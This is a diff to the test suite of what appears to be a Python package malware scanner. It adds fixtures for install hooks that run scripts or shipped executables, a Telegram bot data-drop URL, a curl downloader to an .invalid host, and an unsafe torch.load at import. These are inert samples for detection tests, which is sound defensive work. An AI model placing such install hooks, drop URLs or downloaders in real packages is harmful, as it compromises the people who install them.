@@ -19,6 +19,8 @@ REPLACED = {
     "@MARKER@": MARKER,
     "@URL@": base64.b64encode(b"https://receiver.invalid/collect/everything/of/it").decode(),
     "@COMMAND@": base64.b64encode(b"echo marker; echo this command is inert").decode(),
+    "@DROP@": base64.b64encode(b"https://api.telegram.org/bot1234567890:" + b"A" * 35 + b"/sendMessage").decode(),
+    "@DOWNLOADER@": base64.b64encode(b"curl --output marker https://host.invalid/marker").decode(),
     "@SECRET@": "x" * 60,
     "@TOKEN@": "A" * 35,
 }
@@ -63,6 +65,16 @@ BUILD_HITS = {
         + f"import base64\nclass I(install):\n    def run(self):\n        exec(base64.b64decode('{MARKER}'))\n"
         "setup(cmdclass={'install': I})"
     },
+    "install-command-runs-script": {
+        "pkg-1.0/setup.py": HOOK + "import os, sys\nclass I(install):\n    def run(self):\n"
+        '        os.system(f\'{sys.executable} "{os.path.join(os.path.dirname(__file__), "marker.py")}"\')\n'
+        "setup(cmdclass={'install': I})"
+    },
+    "install-command-runs-program": {
+        "pkg-1.0/setup.py": HOOK
+        + "import os, subprocess\nclass I(install):\n    def run(self):\n        install.run(self)\n"
+        "        subprocess.run([os.path.join(HERE, 'tool', 'marker.exe')])\nsetup(cmdclass={'install': I})"
+    },
     "shipped-program-started": {
         "pkg-1.0/setup.py": SETUP + "import os\nos.startfile('tool/helper.exe')\nsetup()",
         "pkg-1.0/tool/helper.exe": "MZ",
@@ -86,6 +98,40 @@ def test_a_build_script_that_only_builds_hits_nothing(found: Found) -> None:
         "      ext_modules=[Extension('pkg._x', ['x.c'])], long_description=open('README.md').read())"
     )
     assert found({"pkg-1.0/setup.py": source}) == []
+
+
+def test_an_install_command_that_compiles_is_no_more_than_that(found: Found) -> None:
+    source = (
+        HOOK + "import subprocess, sys\nclass I(install):\n    def run(self):\n"
+        "        subprocess.check_call([sys.executable, 'build.py'])\n"
+        "        subprocess.check_call(['nmake.exe', '/f', 'makefile'])\n        install.run(self)\n"
+        "setup(cmdclass={'install': I})"
+    )
+    rules = {finding.rule for finding in found({"pkg-1.0/setup.py": source})}
+    assert {rule for rule in rules if rule.startswith("install-")} == {"install-hook-process"}
+
+
+def test_a_script_that_a_build_command_runs_is_no_install_command(found: Found) -> None:
+    source = (
+        "import subprocess, sys\nfrom setuptools import setup\nfrom setuptools.command.build_py import build_py\n"
+        "class B(build_py):\n    def run(self):\n        subprocess.run([sys.executable, 'tools/tables.py'])\n"
+        "setup(cmdclass={'build_py': B})"
+    )
+    assert {finding.rule for finding in found({"pkg-1.0/setup.py": source})} == {"install-hook-process"}
+
+
+MODEL = (
+    "import os, torch\nplace = os.path.join(os.path.dirname(__file__), 'model.pt')\ntorch.load(place, weights_only={})"
+)
+
+
+def test_a_shipped_model_that_may_run_code_at_import_is_found(found: Found) -> None:
+    loaded = {"pkg/__init__.py": MODEL.format(False), "pkg/model.pt": "marker"}
+    assert "unsafe-model-at-import" in {finding.rule for finding in found(loaded)}
+    careful = {"pkg/__init__.py": MODEL.format(True), "pkg/model.pt": "marker"}
+    assert "unsafe-model-at-import" not in {finding.rule for finding in found(careful)}
+    somebody_elses = {"pkg/__init__.py": MODEL.format(False)}
+    assert "unsafe-model-at-import" not in {finding.rule for finding in found(somebody_elses)}
 
 
 def test_what_runs_by_itself_is_graded_higher_than_what_somebody_must_call(found: Found) -> None:
@@ -115,4 +161,5 @@ def test_every_behaviour_rule_has_a_fixture(ruleset: Ruleset) -> None:
     own = {
         rule.id for rule in ruleset.rules.values() if rule.kind == "behaviour" and not rule.id.startswith("startup-")
     }
-    assert own - {rule for rule, _ in HITS} - set(BUILD_HITS) == set()
+    elsewhere = {"unsafe-model-at-import"}
+    assert own - {rule for rule, _ in HITS} - set(BUILD_HITS) == elsewhere
